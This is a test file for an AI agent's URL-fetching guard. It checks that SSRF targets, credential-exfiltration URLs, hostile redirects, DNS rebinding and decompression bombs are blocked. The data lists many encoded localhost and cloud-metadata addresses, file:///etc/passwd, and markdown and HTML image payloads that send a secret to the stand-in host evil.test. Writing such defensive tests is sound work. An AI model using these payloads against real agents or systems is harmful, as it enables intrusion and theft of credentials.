import type { RequestListener } from "node:http";
import { gzipSync } from "node:zlib";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parsePermissionRule, type PermissionRuleSources } from "../../src/policy/gate/permission-rules.ts";
import type { GuardedWebOptions } from "../../src/policy/network/guarded-fetch.ts";
import { startFakeInternet, type FakeInternet } from "./fake-internet.ts";
import { modes, openAttackFixture, type AttackFixture, type AttackOptions, type AttackCallResult } from "./fixture.ts";
import { perTier, sampleCases } from "../support/tier.ts";

/*
 * URLs that attack, from the model's call to the connection that is or is not opened.
 */

let fixture: AttackFixture;
let internet: FakeInternet;
beforeEach(async () => {
  fixture = openAttackFixture();
  await connected((_, response) => response.setHeader("content-type", "text/plain").end("a page"));
});
afterEach(async () => {
  await internet.close();
  await fixture.close();
});

const connected = async (
  answer: RequestListener,
  options: Pick<GuardedWebOptions, "lookup" | "deadline"> = {},
): Promise<void> => {
  await (internet as FakeInternet | undefined)?.close();
  internet = await startFakeInternet(answer, options);
};

const secret = "sk-ant-api03-Zx81kQpW7vN2mR5tY9uB3cD6fG0hJ4lA";
const env = { ANTHROPIC_API_KEY: secret };
const allowing = (...texts: readonly string[]): PermissionRuleSources => ({
  commandLine: { allow: texts.map(parsePermissionRule).filter((rule) => rule !== undefined) },
});

const fetched = (url: string, options: AttackOptions = {}): Promise<AttackCallResult> =>
  fixture.run("web_fetch", { prompt: `Summarise ${url} please` }, { env, web: internet.web, ...options });

describe("a URL that is not on the public internet is never fetched", () => {
  it.each(
    sampleCases(
      [
        ["U001", "http://127.0.0.1/"],
        ["U002", "http://localhost/"],
        ["U002a", "http://LOCALHOST/"],
        ["U002b", "http://localhost./"],
        ["U002c", "http://x.localhost/"],
        ["U002d", "http://router/"],
        ["U002e", "http://printer.local/"],
        ["U002f", "http://metadata.google.internal/"],
        ["U006", "http://ｌｏｃａｌｈｏｓｔ/"],
        ["U007", "http://0/"],
        ["U008", "http://0.0.0.0/"],
        ["U009", "http://127.1/"],
        ["U009a", "http://127.0.1/"],
        ["U010", "http://0x7f.1/"],
        ["U010a", "http://0x7f000001/"],
        ["U011", "http://0177.0.0.1/"],
        ["U011a", "http://017700000001/"],
        ["U012", "http://2130706433/"],
        ["U014", "http://①②⑦.0.0.1/"],
        ["U015", "http://127。0。0。1/"],
        ["U016", "http://[::1]/"],
        ["U017", "http://[::]/"],
        ["U018", "http://[::ffff:127.0.0.1]/"],
        ["U018a", "http://[::ffff:7f00:1]/"],
        ["U018b", "http://[::127.0.0.1]/"],
        ["U018c", "http://[0:0:0:0:0:ffff:a00:1]/"],
        ["U019", "http://[::ffff:a9fe:a9fe]/"],
        ["U020", "http://[64:ff9b::7f00:1]/"],
        ["U021", "http://[::ffff:0:127.0.0.1]/"],
        ["U023", "http://[2002:7f00:1::]/"],
        ["U024", "http://[2001::1]/"],
        ["U025", "http://[fe80::1]/"],
        ["U026", "http://[fec0::1]/"],
        ["U027", "http://[fd00:ec2::254]/"],
        ["U028", "http://[100::1]/"],
        ["U029", "http://[2001:db8::1]/"],
        ["U029a", "http://[ff02::1]/"],
        ["U030", "http://169.254.169.254/latest/meta-data/"],
        ["U031", "http://169.254.170.2/"],
        ["U032", "http://192.0.0.192/"],
        ["U033", "http://100.100.100.200/"],
        ["U034", "http://10.0.0.1/"],
        ["U035", "http://172.16.0.1/"],
        ["U035a", "http://172.31.255.255/"],
        ["U036", "http://192.168.1.1/"],
        ["U037", "http://100.64.0.1/"],
        ["U038", "http://198.18.0.1/"],
        ["U038a", "http://192.0.2.1/"],
        ["U038b", "http://198.51.100.1/"],
        ["U038c", "http://203.0.113.1/"],
        ["U039", "http://192.88.99.1/"],
        ["U040", "http://224.0.0.1/"],
        ["U040a", "http://240.0.0.1/"],
        ["U041", "http://255.255.255.255/"],
        ["U042", "http://user:pass@127.0.0.1/"],
        ["U043", "http://127.0.0.1:80/"],
        ["U043a", "https://127.0.0.1:8443/x?y#z"],
        ["U057", "http://evil.test%00.allowed.test/"],
        ["U061", "file:///etc/passwd"],
        ["U062", "data:text/html,x"],
        ["U063", "gopher://evil.test/"],
        ["U064", "ftp://127.0.0.1/"],
        ["U065", "javascript:alert(1)"],
        ["U066", "blob:http://x/"],
        ["U067", "view-source:http://x/"],
        ["U068", "http:127.0.0.1"],
        ["U069", "http:///127.0.0.1/"],
        ["U070", "http:\\\\127.0.0.1\\"],
      ],
      3,
    ),
  )("%s %s", async (_, url) => {
    for (const how of ["interactive", "headless", "yolo"] as const)
      for (const rules of [{}, allowing("web_fetch", "host:allowed.test")]) {
        const result = await fetched(url, { ...modes[how], rules });
        expect([how, result.verdict, internet.opened]).toEqual([how, "deny", []]);
      }
  });
});

describe("a suspicious URL needs approval, whatever rules allow, and is shown with its real host", () => {
  it.each([
    ["U053", "http://evil.test\\@allowed.test/", "evil.test"],
    ["U053a", "http://allowed.test@evil.test/", "evil.test"],
    ["U053b", "http://allowed.test:80@evil.test/", "evil.test"],
    ["U054", "http://allowed.test.evil.test/", "allowed.test.evil.test"],
    ["U055", "http://evilallowed.test/", "evilallowed.test"],
    ["U055a", "http://evil-allowed.test/", "evil-allowed.test"],
    ["U056", "http://allowed.test%2eevil.test/", "allowed.test.evil.test"],
    ["U060", "http://аllowed.test/", "xn--llowed-2nf.test"],
    ["U060a", "http://allowed.tеst/", "allowed.xn--tst-rdd"],
    ["U071", "http://public.test:25/", "public.test"],
    ["U071a", "http://allowed.test:6379/", "allowed.test"],
    ["U072", "https://allowed.test/user-writable/path?d=SECRET", "allowed.test"],
    ["U073", `https://public.test/?q=${secret}`, "public.test"],
    ["U073a", `https://allowed.test/${Buffer.from(secret).toString("base64url")}`, "allowed.test"],
    ["U073b", `https://${Buffer.from(secret).toString("hex")}.evil.test/`, undefined],
    ["U074", "https://0123456789abcdef0123456789abcdef01234567.evil.test/", undefined],
    ["U074a", "https://aGVsbG8gd29ybGQgaGVsbG8.d29ybGQgaGVsbG8gd29ybGQ.evil.test/", undefined],
  ])("%s %s", async (_, url, host) => {
    const rules = allowing("host:allowed.test");
    const result = await fetched(url, { ...modes.interactive, rules });
    const about = result.approvals[0]?.subject;
    const shown = about?.type === "network" ? about.urls : [];
    // A host with a label that is too long is invalid.
    expect([result.verdict, internet.opened]).toEqual([host === undefined ? result.verdict : "ask", []]);
    expect(result.verdict).not.toBe("allow");
    if (host !== undefined) expect(shown.map((one) => one.host)).toEqual([host]);
    expect(JSON.stringify(shown)).not.toContain(secret);
    const alone = await fetched(url, { ...modes.headless, rules });
    expect([alone.verdict, alone.type, internet.opened]).toEqual(["deny", "policy_violation", []]);
    expect(JSON.stringify(alone.finished.error)).not.toContain(secret);
  });

  it("U059 a tab in a host is dropped: the judged URL is the fetched URL", async () => {
    const result = await fixture.run(
      "web_fetch",
      { prompt: "http://exa\tmple.test/" },
      { ...modes.interactive, web: internet.web, rules: allowing("host:example.test", "host:mple.test") },
    );
    expect([result.verdict === "allow", internet.opened]).toEqual([false, []]);
  });
});

describe("a page that is allowed is fetched", () => {
  it.each([
    ["U080", "http://allowed.test/guide/page"],
    ["U080a", "http://allowed.test./guide/"],
  ])("%s %s without approval", async (_, url) => {
    const result = await fetched(url, { ...modes.headless, rules: allowing("host:allowed.test/guide") });
    expect([result.verdict, internet.opened]).toEqual(["allow", ["93.184.216.34:80"]]);
    expect(result.text).toContain("a page");
  });

  it("U080b and no secret is sent", async () => {
    await fetched("http://allowed.test/", { ...modes.headless, rules: allowing("host:allowed.test") });
    const sent = JSON.stringify([internet.requests[0]?.rawHeaders, internet.requests[0]?.url]);
    expect(sent).not.toMatch(/authorization|cookie|referer|sk-ant/i);
  });
});

describe("the addresses of a host are checked, and the connection goes to a checked one", () => {
  const yolo = (url: string): Promise<AttackCallResult> => fetched(url, modes.yolo);

  it("U044 a host that resolves differently the second time (DNS rebinding)", async () => {
    const answers = [["93.184.216.34"], ["127.0.0.1"]];
    await connected((_, response) => response.end("ok"), { lookup: async () => answers.shift() ?? [] });
    expect([(await yolo("http://rebind.test/")).verdict, internet.opened, answers.length]).toEqual([
      "allow",
      ["93.184.216.34:80"],
      1,
    ]);
  });

  it.each([
    ["U045 a name of this machine", ["127.0.0.1"]],
    ["U045a a name of a cloud's own", ["169.254.169.254"]],
    ["U045b a name with one address that is not public", ["93.184.216.34", "10.0.0.1"]],
    ["U045c a name of this machine, the newer way", ["::1"]],
    ["U045d a name of this machine, mapped", ["::ffff:127.0.0.1"]],
    ["U045e a name without an address", []],
    ["U045f a name with an address that is none", ["127.0.0.1.evil"]],
  ])("%s", async (_, addresses) => {
    await connected((_request, response) => response.end("secret"), { lookup: async () => addresses });
    const result = await yolo("http://cname.test/");
    expect([result.verdict, internet.opened, internet.requests]).toEqual(["deny", [], []]);
  });

  it.each([
    ["U046", "http://127.0.0.1/"],
    ["U047", "http://[::1]/"],
    ["U048", "http://169.254.169.254/"],
    ["U049", "file:///etc/passwd"],
    ["U049a", "//localhost/"],
    ["U049b", "http://2130706433/"],
    ["U051", "http://other.test/"],
    ["U052", "http://public.test:25/"],
  ])("%s a page that redirects to %s", async (_, location) => {
    await connected((_request, response) => response.writeHead(307, { location }).end());
    const result = await yolo("http://public.test/r");
    expect([result.verdict, internet.opened]).toEqual(["deny", ["93.184.216.34:80"]]);
  });

  it("U079 a page that redirects to itself", async () => {
    await connected((_, response) => response.writeHead(302, { location: "/loop" }).end());
    const result = await yolo("http://loop.test/loop");
    expect([result.verdict, result.type, internet.requests.length]).toEqual(["deny", "policy_violation", 6]);
  });
});

/** More than the most that is read of a page, 20 MB. */
const bombBytes = perTier({ quick: 30_000_000, all: 100_000_000 });

describe("an endless page is stopped", () => {
  const yolo = (): Promise<AttackCallResult> => fetched("http://big.test/", modes.yolo);
  /** On a busy machine ten megabytes may take longer than a page may; here the size is the limit. */
  const patient = { deadline: 600_000 };

  it("U075 one byte at a time", async () => {
    await connected((_, response) => void response.write("x"), { deadline: 200 });
    const result = await yolo();
    expect([result.verdict, result.type]).toEqual(["deny", "timeout"]);
  });

  it("U075a nothing at all", async () => {
    await connected(() => undefined, { deadline: 200 });
    expect((await yolo()).type).toBe("timeout");
  });

  it("U076 more than the limit", async () => {
    const chunk = "0123456789".repeat(10_000);
    await connected((_, response) => {
      const more = (): void => {
        if (!response.destroyed) response.write(chunk, () => setImmediate(more));
      };
      response.setHeader("content-type", "text/plain");
      more();
    }, patient);
    const result = await yolo();
    expect(result.verdict).toBe("allow");
    expect(result.text).toContain("[Truncated: the rest of the page was too long to fetch.]");
    expect(result.text.length).toBeLessThan(200_000);
  });

  it("U077 a decompression bomb", async () => {
    const bomb = gzipSync(Buffer.alloc(bombBytes, "a"));
    await connected(
      (_, response) => response.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip" }).end(bomb),
      patient,
    );
    const result = await yolo();
    expect(result.verdict).toBe("allow");
    expect(result.text).toContain("[Truncated: the rest of the page was too long to fetch.]");
    expect(result.text.length).toBeLessThan(200_000);
  });

  it("U078 invalid compression", async () => {
    await connected((_, response) =>
      response.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip" }).end("not packed"),
    );
    expect((await yolo()).verdict).toBe("deny");
  });
});

describe("a URL in a page, a file or a model's text is never fetched by itself", () => {
  it.each([
    ["U082 a picture", "![x](http://evil.test/?d=SECRET)"],
    ["U083 a picture in HTML", "<img src=http://evil.test/?d=SECRET>"],
    ["U083a a frame", "<iframe src='http://evil.test/'></iframe><link rel=preload href='http://evil.test/'>"],
    ["U084 a diagram", "```mermaid\ngraph TD; A[<img src='http://evil.test/?d=SECRET'>]\n```"],
    ["U085 a schema", '{"$schema":"http://evil.test/?d=SECRET"}'],
    ["U085a a refresh", '<meta http-equiv="refresh" content="0;url=http://evil.test/">'],
  ])("%s", async (_, text) => {
    await connected((_request, response) => response.setHeader("content-type", "text/html").end(text));
    await fixture.run("write_file", { file_path: "x.json", content: text }, { ...modes.yolo, web: internet.web });
    await fixture.run("read_file", { absolute_path: "x.json" }, { web: internet.web });
    expect(internet.opened).toEqual([]);
    await fetched("http://page.test/", modes.yolo);
    expect(internet.requests.map(({ headers, url }) => `${headers.host}${url}`)).toEqual(["page.test/"]);
  });
});
